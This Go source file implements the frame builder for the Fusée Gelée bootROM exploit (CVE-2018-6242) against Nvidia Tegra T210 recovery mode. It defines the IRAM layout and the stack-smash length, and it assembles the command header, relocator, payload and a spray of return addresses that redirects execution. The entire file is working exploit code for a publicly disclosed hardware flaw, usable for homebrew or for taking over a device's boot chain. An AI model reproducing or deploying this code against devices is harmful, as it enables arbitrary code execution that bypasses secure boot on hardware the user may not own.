package rcm

import (
	"bytes"
	"encoding/binary"
	"fmt"
)

// Memory layout of the T210 bootROM while in RCM, as published in the Fusée
// Gelée disclosure (CVE-2018-6242).
const (
	// rcmLength is the length declared in the RCM command header. The bootROM
	// trusts it and receives this many bytes.
	rcmLength = 0x30298
	// headerSize is the RCM command header preceding the received data.
	headerSize = 0x2a8

	// PayloadBase is the IRAM address the first byte after the command header
	// is received to, and also the address that the stack spray redirects
	// execution to.
	PayloadBase uint32 = 0x40010000
	// PayloadStart is where the frame places the payload, directly after the
	// relocator area.
	PayloadStart uint32 = 0x40010e40
	// SprayStart and SprayEnd delimit the stack region overwritten with
	// return addresses. The payload is split around it.
	SprayStart uint32 = 0x40014e40
	SprayEnd   uint32 = 0x40017000

	// ChunkSize is the size of each of the bootROM's two DMA receive buffers.
	// Every bulk write fills one of them and flips to the other.
	ChunkSize = 0x1000

	// The GET_STATUS request copies wLength bytes from the current DMA buffer
	// onto the stack, whose top is at stackEnd. Doing that from the high
	// buffer is what smashes the stack.
	stackEnd   uint32 = 0x40010000
	highBuffer uint32 = 0x40009000
	smashLen          = int(stackEnd - highBuffer)
)

const (
	// MaxRelocatorSize is the room between PayloadBase and PayloadStart.
	MaxRelocatorSize = int(PayloadStart - PayloadBase)
	// PayloadHeadSize is the amount of payload that fits before the spray.
	PayloadHeadSize = int(SprayStart - PayloadStart)
	sprayLen        = int(SprayEnd - SprayStart)

	// MaxPayloadSize is the largest payload whose frame, rounded up to a full
	// DMA buffer, still fits in the declared RCM length.
	MaxPayloadSize = (rcmLength &^ (ChunkSize - 1)) - headerSize - MaxRelocatorSize - sprayLen
)

// BuildFrame lays out the complete byte stream sent to the bootROM: the RCM
// command header, the relocator at PayloadBase, the payload at PayloadStart
// split around the stack spray, and zero padding up to a full DMA buffer.
func BuildFrame(relocator, payload []byte) ([]byte, error) {
	if len(relocator) > MaxRelocatorSize {
		return nil, newError(KindPayloadTooLarge, fmt.Errorf("relocator is 0x%x bytes, at most 0x%x allowed", len(relocator), MaxRelocatorSize))
	}
	if len(payload) > MaxPayloadSize {
		return nil, newError(KindPayloadTooLarge, fmt.Errorf("payload is 0x%x bytes, at most 0x%x allowed", len(payload), MaxPayloadSize))
	}

	buf := bytes.NewBuffer(make([]byte, 0, rcmLength))
	binary.Write(buf, binary.LittleEndian, uint32(rcmLength))
	buf.Write(make([]byte, headerSize-buf.Len()))

	buf.Write(relocator)
	buf.Write(make([]byte, MaxRelocatorSize-len(relocator)))

	head, tail := payload, []byte(nil)
	if len(payload) > PayloadHeadSize {
		head, tail = payload[:PayloadHeadSize], payload[PayloadHeadSize:]
	}
	buf.Write(head)
	buf.Write(make([]byte, PayloadHeadSize-len(head)))

	for i := 0; i < sprayLen/4; i++ {
		binary.Write(buf, binary.LittleEndian, PayloadBase)
	}

	buf.Write(tail)

	if r := buf.Len() % ChunkSize; r != 0 {
		buf.Write(make([]byte, ChunkSize-r))
	}
	if buf.Len() > rcmLength {
		panic(fmt.Sprintf("frame of 0x%x bytes exceeds RCM length", buf.Len()))
	}
	return buf.Bytes(), nil
}

// FrameOffset returns the offset within a frame at which the bootROM places
// the given IRAM address.
func FrameOffset(addr uint32) int {
	return headerSize + int(addr-PayloadBase)
}
